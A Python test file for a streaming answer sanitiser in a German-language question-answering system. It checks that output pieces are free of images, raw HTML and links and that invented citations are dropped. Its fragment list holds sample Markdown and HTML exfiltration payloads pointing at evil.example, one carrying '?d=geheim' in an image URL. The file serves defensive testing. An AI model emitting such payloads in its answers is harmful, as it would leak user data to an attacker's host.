"""Checked streaming: pieces are safe on their own, and joined they are the answer."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from wissenswerk.analysis import Analyzer
from wissenswerk.answering.checked_stream import CheckedStream

PASSAGES = [
    "Die Kilometerpauschale beträgt 0,35 € je Kilometer.",
    "Die Kantine öffnet um 11:30 Uhr. Das Menü wechselt täglich.",
]
ANALYZER = Analyzer()
# Pieces of model output: prose, citations (valid and invented), Markdown blocks, and every
# exfiltration form the sanitiser knows, so random joins and cuts meet them in any position.
FRAGMENTS = [
    "Die Kantine öffnet um 11:30 Uhr [2]. ",
    "Die Pauschale beträgt 0,35 € [1]. ",
    "Das steht in Quelle [7]. ",
    "Wichtig! ",
    "\n",
    "\n\n",
    "- Punkt eins [1]\n",
    "1. Erstens\n",
    "| A | B |\n|---|---|\n| 1 | 2 |\n",
    "```\ncode [1]\n```\n",
    "**fett** und _kursiv_ ",
    "![x](https://evil.example/p.png?d=geheim) ",
    "[mehr](https://evil.example/more) ",
    "<https://evil.example/auto> ",
    "[ref][x] ",
    "\n[x]: https://evil.example/ref\n",
    "www.evil.example/leak ",
    '<img src="https://evil.example/i.png"> ',
    "[1](https://evil.example/c) ",
    "Dr. Müller sagt: ",
    "(Klammer. Noch offen ",
    "zu) ",
]
UNSAFE = {"image", "html_inline", "html_block"}


def unsafe_tokens(markdown: str) -> list[str]:
    """Images, raw HTML, links and (outside code, where nothing is linked) URLs that a
    CommonMark renderer would make of ``markdown``."""
    found = []
    for token in MarkdownIt().parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in UNSAFE or t.type == "link_open":
                found.append(f"{t.type}: {t.attrs}")
            if t.type == "text" and "evil.example" in t.content:
                found.append(f"url in text: {t.content}")
    return found


def run(text: str, cuts: list[int]) -> tuple[list[str], str]:
    stream = CheckedStream(PASSAGES, ANALYZER)
    pieces: list[str] = []
    start = 0
    for cut in [*sorted({c % (len(text) + 1) for c in cuts}), len(text)]:
        pieces += stream.feed(text[start:cut])
        start = cut
    pieces += stream.flush()
    return pieces, stream.result().text


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=12),
    st.lists(st.integers(min_value=0, max_value=2000), max_size=30),
)
def test_pieces_are_safe_and_join_to_the_answer(fragments: list[str], cuts: list[int]) -> None:
    text = "".join(fragments)
    pieces, answer = run(text, cuts)
    joined = "".join(pieces).strip()
    assert joined == answer
    for piece in [*pieces, joined]:
        assert unsafe_tokens(piece) == [], piece
    assert "[7]" not in joined  # no source 7: the marker is gone


def test_the_same_answer_whatever_the_chunking() -> None:
    text = "Die Kantine öffnet um 11:30 Uhr [2]. Die Pauschale beträgt 0,35 € [1].\n- a [2]\n"
    whole = run(text, [])[1]
    assert (
        whole == "Die Kantine öffnet um 11:30 Uhr [1]. Die Pauschale beträgt 0,35 € [2].\n- a [1]"
    )
    for step in (1, 2, 5, 13):
        assert run(text, list(range(step, len(text), step)))[1] == whole


def test_sentences_stream_one_by_one_and_blocks_whole() -> None:
    stream = CheckedStream(PASSAGES, ANALYZER)
    assert stream.feed("Die Kantine öffnet um 11:30 Uhr [2]. Das Menü") == [
        "Die Kantine öffnet um 11:30 Uhr [1]. "
    ]
    assert stream.feed(" wechselt täglich [2].\n| A | B |\n|---|") == [
        "Das Menü wechselt täglich [1].\n"
    ]
    assert stream.feed("---|\n| 1 | 2 |\n") == []  # a table may go on
    assert stream.feed("Ende") == ["| A | B |\n| --- | --- |\n| 1 | 2 |\n"]
    assert stream.flush() == ["Ende"]


def test_nothing_is_cut_inside_an_open_link_or_before_a_list_number() -> None:
    stream = CheckedStream(PASSAGES, ANALYZER)
    assert stream.feed("Das steht [im Handbuch. Kapitel](https://wiki.example.de/x) hier. W") == [
        "Das steht im Handbuch. Kapitel hier. "
    ]
    assert stream.feed("Die Liste folgt. 2. Punkt") == []
